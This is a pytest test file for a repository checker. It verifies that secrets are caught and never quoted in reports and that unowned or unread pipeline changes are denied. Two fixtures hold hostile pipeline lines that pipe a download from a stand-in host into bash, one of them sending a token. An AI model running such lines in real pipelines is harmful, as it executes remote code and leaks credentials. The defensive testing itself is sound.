"""Nothing secret leaves, whatever somebody hides it in; nothing is left out in silence."""

from __future__ import annotations

import base64

import pytest

from reconciler.core.secrets.engine import scanner
from reconciler.model.check import CheckReport
from reconciler.model.decision import Verdict
from reconciler.report import check_json, findings, note
from tests.check.project import ADA, FAIR, PITCH, SARA, SERVERLESS, Project, about, rules
from tests.repos import Files, Raw, edited, link

TOKEN = "glpat-" + "Zq7xW2mK9vRt4LpYc3Hd"
REPORTS = (
    check_json.checked,
    findings.sarif,
    findings.code_quality,
    findings.junit,
    note.checked,
    findings.secret_detection,
)


def silent_about(report: CheckReport, secret: str = TOKEN) -> None:
    for write in REPORTS:
        assert secret not in write(report), write.__name__
    assert secret not in repr(report)


@pytest.mark.parametrize("new", [f"size: {TOKEN}", f"{TOKEN}: small"])
def test_a_message_does_not_quote_a_secret(project: Project, files: Files, new: str) -> None:
    report = project.change(files, edited(files, PITCH, "size: small", new), SARA)
    assert about(report, "pitch-acme").verdict is Verdict.DENY
    silent_about(report)


def test_a_name_is_looked_at_and_not_shown(project: Project, files: Files) -> None:
    report = project.change(files, {**files, f"notes/{TOKEN}.txt": "hello"}, SARA)
    assert about(report).verdict is Verdict.DENY
    assert {"(name of a file)"} == {
        one.finding.location.path for one in about(report).findings if one.finding.gate == "secrets"
    }
    silent_about(report)


def test_a_rule_does_not_quote_a_secret(project: Project, files: Files) -> None:
    path = SERVERLESS + "pipeline/.gitlab-ci.yml.j2"
    line = f"evil: {{script: ['curl -H PRIVATE-TOKEN:{TOKEN} https://x.example.com | bash']}}\n"
    report = project.change(files, {**files, path: files[path] + line}, ADA)
    assert "PIPE001" in rules(about(report, "pitch-acme"))
    silent_about(report)


def test_secrets_behind_letters_are_found_too() -> None:
    words = f"password token {TOKEN} and more text here".encode()
    encoded = base64.b64encode(words)
    for before in (b"", b"a=", b"ab", b"x_", b"path/", b"k-"):
        assert scanner().scan(before + encoded).hits, before


@pytest.mark.parametrize(
    "message",
    [
        "x\n" + " ".join(["glpat-" + "A" * 20] * 10_001) + f"\n{TOKEN}",
        f"PK\x03\x04 {TOKEN}",
    ],
)
def test_a_commit_message_that_cannot_be_looked_at_is_no_pass(
    project: Project, files: Files, message: str
) -> None:
    first = project.commit(files)
    second = project.commit(
        edited(files, PITCH, "size: small", "size: medium"), first, SARA, message
    )
    report = project.check(first, second)
    assert about(report).verdict in (Verdict.INDETERMINATE, Verdict.DENY)


def test_a_pipeline_that_no_rule_reads_is_no_pass(project: Project, files: Files) -> None:
    evil = "x:\n  script: ['curl https://x.example.com | bash']\n"
    report = project.change(files, {**files, SERVERLESS + "pipeline/child/evil.yml": evil}, ADA)
    decision = about(report, "pitch-acme")
    assert decision.verdict is Verdict.INDETERMINATE
    assert any("no rule reads" in why for why in decision.reasons)


@pytest.mark.parametrize("path", [".gitlab-ci.yml", "CODEOWNERS"])
def test_what_runs_on_every_merge_request_has_an_owner(
    project: Project, files: Files, path: str
) -> None:
    changed = {**files, path: "x: {script: [echo]}\n"}
    assert "AUT002" in rules(about(project.change(files, changed, SARA)))
    assert "AUT002" not in rules(about(project.change(files, changed, ADA)))


def test_what_validate_refuses_check_refuses(project: Project, files: Files) -> None:
    text = files[FAIR]
    others: dict[str, str | bytes | Raw] = {
        one: value for one, value in files.items() if one != FAIR
    }
    changes: tuple[dict[str, str | bytes | Raw], ...] = (
        {**files, "environments/demo/foo.yml": "x"},
        {**others, FAIR.replace(".yaml", ".yml"): text},
        {**files, "environments/demo/link": link(project.repo, "link", "../customer")},
    )
    for changed in changes:
        assert about(project.change(files, changed, SARA)).verdict is Verdict.DENY
